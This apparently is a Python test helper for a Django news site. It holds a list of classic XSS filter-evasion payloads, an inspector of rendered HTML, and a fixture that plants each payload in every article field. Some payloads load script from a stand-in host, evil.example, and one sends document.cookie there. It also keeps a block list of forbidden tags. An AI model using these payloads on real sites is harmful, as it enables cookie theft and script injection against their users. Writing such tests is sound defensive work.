"""A corpus of classic XSS filter-evasion payloads and an inspector of rendered HTML (issue 7).

Every payload that worked would leave a trace the inspector finds: an element or attribute
that runs script (<script>, on*=, javascript: URLs), loads from elsewhere (<iframe>, <object>,
<base>, <link>), or carries the `data-xss` marker. Payloads call alert() so that in a browser
a dialog would show it ran.
"""

from urllib.parse import urlsplit

from django.core.files.uploadedfile import SimpleUploadedFile

from articles.models import Article, Author, Byline, CaptionedImage, Category
from tests.helpers.html import parse
from tests.helpers.photos import jpeg_bytes

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert('xss') data-xss>",
    "<IMG SRC=\"javascript:alert('xss');\">",
    "<IMG SRC=javascript:alert(&quot;xss&quot;)>",
    "<IMG SRC=JaVaScRiPt:alert('xss') data-xss>",
    '<IMG SRC=`javascript:alert("xss")` data-xss>',
    "<a onmouseover=\"alert('xss')\" data-xss>hover me</a>",
    '<IMG """><SCRIPT>alert("xss")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xss')\" data-xss>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))" data-xss></img>',
    '<img src=x onerror="&#0000097&#0000108&#0000101&#0000114&#0000116'
    '&#0000040&#0000049&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('xss');\" data-xss>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('xss');\" data-xss>",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("xss")>',
    '<<SCRIPT>alert("xss");//\\<</SCRIPT>',
    "<SCRIPT SRC=//evil.example/.j>",
    "<iframe src=https://evil.example/xss.html data-xss></iframe>",
    "<svg/onload=alert('xss') data-xss>",
    "<svg><script>alert('xss')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss') data-xss>",
    "</title><script>alert('xss')</script>",
    "</textarea><script>alert('xss')</script>",
    "</script><script>alert('xss')</script>",
    "\"><script>alert('xss')</script>",
    "' onmouseover='alert(1)' data-xss='",
    '" onfocus="alert(\'xss\')" autofocus data-xss="',
    "javascript:alert('xss')",
    "<a href=\"javascript:alert('xss')\" data-xss>click me</a>",
    "<a href=\"jAvAsCrIpT&colon;alert('xss')\">click me</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">click me</a>',
    '<object data="https://evil.example/xss.swf" data-xss></object>',
    '<embed src="https://evil.example/xss.swf" data-xss>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<link rel="stylesheet" href="https://evil.example/xss.css">',
    "<style>@import 'https://evil.example/xss.css';</style>",
    "<div style=\"background-image: url(javascript:alert('xss'))\" data-xss>styled</div>",
    "<div style=\"width: expression(alert('xss'));\" data-xss>styled</div>",
    '<form action="https://evil.example/steal" data-xss><input name="password"></form>',
    "<details open ontoggle=alert('xss') data-xss>",
    "<video><source onerror=\"alert('xss')\" data-xss></video>",
    "<body onload=alert('xss')>",
    "<input autofocus onfocus=alert('xss') data-xss>",
    "<marquee onstart=alert('xss') data-xss>",
    "<!--<img src=\"--><img src=x onerror=alert('xss') data-xss//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss') data-xss>\">",
    "<scr<script>ipt>alert('xss')</scr</script>ipt>",
    "%3Cscript%3Ealert('xss')%3C/script%3E",
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    "\\u003cscript\\u003ealert('xss')\\u003c/script\\u003e",
    '<img src="x" alt="xss" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
    "<isindex type=image src=1 onerror=alert('xss') data-xss>",
    "<template><img src=x onerror=alert('xss') data-xss></template>",
    "{{ request }} {% debug %} ${alert('xss')}",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss data-xss>",
    "<a href=\"&#x6A;avascript:alert('xss')\">click me</a>",
    '<img srcset="https://evil.example/a.png 1x" data-xss>',
]

# Where a page may legitimately load from (besides its own origin): nowhere.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcset"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg",
                  "math", "template", "isindex", "marquee", "style"}  # fmt: skip
DATA_BLOCK_TYPES = {"application/ld+json", "application/json"}


def _keep_every_value(attrs, name, value):
    """A repeated attribute keeps all its values: each is inspected, as any may be the one a
    browser uses."""
    attrs[name] = [*_values(attrs[name]), value]


def _values(value) -> list[str]:
    return value if isinstance(value, list) else [value]


def _findings(tag, nonce, forbidden) -> list[str]:
    """What one element could run or load."""
    found = []
    name, attrs = tag.name, tag.attrs
    pairs = [(attr, value) for attr, values in attrs.items() for value in _values(values)]

    def every(attr, test):
        return attr in attrs and all(map(test, _values(attrs[attr])))

    def some(attr, test):
        return any(test(value) for value in _values(attrs.get(attr)))

    has_nonce = nonce is not None and every("nonce", lambda value: value == nonce)
    if name in forbidden and not (name == "style" and has_nonce):
        found.append(f"<{name}> element")
    if name == "script" and not (
        every("type", lambda value: value in DATA_BLOCK_TYPES)
        or every("src", lambda value: not _foreign(value))
        or ("src" not in attrs and has_nonce)
    ):
        found.append(f"<script {attrs}> that may run")
    if name == "meta" and "http-equiv" in attrs:
        found.append(f"<meta http-equiv={attrs['http-equiv']!r}>")
    if name == "link" and some("rel", lambda rel: rel == "stylesheet") and some("href", _foreign):
        found.append(f"stylesheet from {attrs['href']}")
    if name == "form" and some("action", _foreign):
        found.append(f"form posting to {attrs['action']}")
    for attr, value in pairs:
        if attr.startswith("on"):
            found.append(f"<{name} {attr}=...> event handler")
        elif attr == "style":
            found.append(f"<{name} style=...> inline style")
        elif attr == "data-xss":
            found.append(f"<{name} data-xss> marker element")
        elif attr in URL_ATTRIBUTES and _script_url(value):
            found.append(f"<{name} {attr}={value!r}> script URL")
        elif attr in {"src", "srcset"} and _foreign(value):
            found.append(f"<{name} {attr}={value!r}> loads from another site")
    return found


def _script_url(value):
    squeezed = "".join((value or "").split()).lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:text/html"))


def _foreign(value):
    """Whether a URL names another site (a scheme or //host), as opposed to a path of ours."""
    if not value:
        return False
    parts = urlsplit(value.strip().split(" ")[0])
    return bool(parts.netloc) and parts.hostname not in {"testserver", "localhost", "127.0.0.1"}


def inspect_html(html: str, nonce: str | None = None, allow=()) -> list[str]:
    """What in `html` could run script or load from another site; [] for a clean page.

    Allowed: scripts from this site, JSON-LD data blocks, (in the admin) inline scripts and
    styles carrying this response's CSP `nonce`, and the elements named in `allow` (the
    admin's own <svg> icons), as long as they carry no event handler.
    """
    forbidden = FORBIDDEN_TAGS - set(allow)
    document = parse(html, on_duplicate_attribute=_keep_every_value)
    return [found for tag in document.find_all(True) for found in _findings(tag, nonce, forbidden)]


def hostile_newsroom(payloads):
    """One story per payload, with the payload in every text it has; the stories, in order."""
    image_bytes = jpeg_bytes(40, 30)
    stories = []
    for i, payload in enumerate(payloads):
        section = Category.objects.create(
            name=f"{i} {payload}"[:80], slug=f"section-{i}", description=payload
        )
        author = Author.objects.create(
            name=payload[:120], slug=f"author-{i}", title=payload[:120], bio=payload
        )
        photo = CaptionedImage.objects.create(
            image=SimpleUploadedFile("p.jpg", image_bytes, content_type="image/jpeg"),
            alt_text=payload[:300],
            caption=payload[:500],
            credit=payload[:200],
        )
        story = Article.objects.create(
            headline=payload[:200],
            slug=f"story-{i}",
            standfirst=payload[:400],
            body=f"<p>Before.</p>{payload}<p>After.</p>",
            seo_description=payload[:300],
            category=section,
            lead_image=photo,
            status=Article.Status.PUBLISHED,
            is_breaking=True,  # the banner on every page shows the newest one
        )
        Byline.objects.create(article=story, author=author, role=payload[:60])
        story.tags.add(f"{i} {payload}"[:100])
        stories.append(story)
    return stories
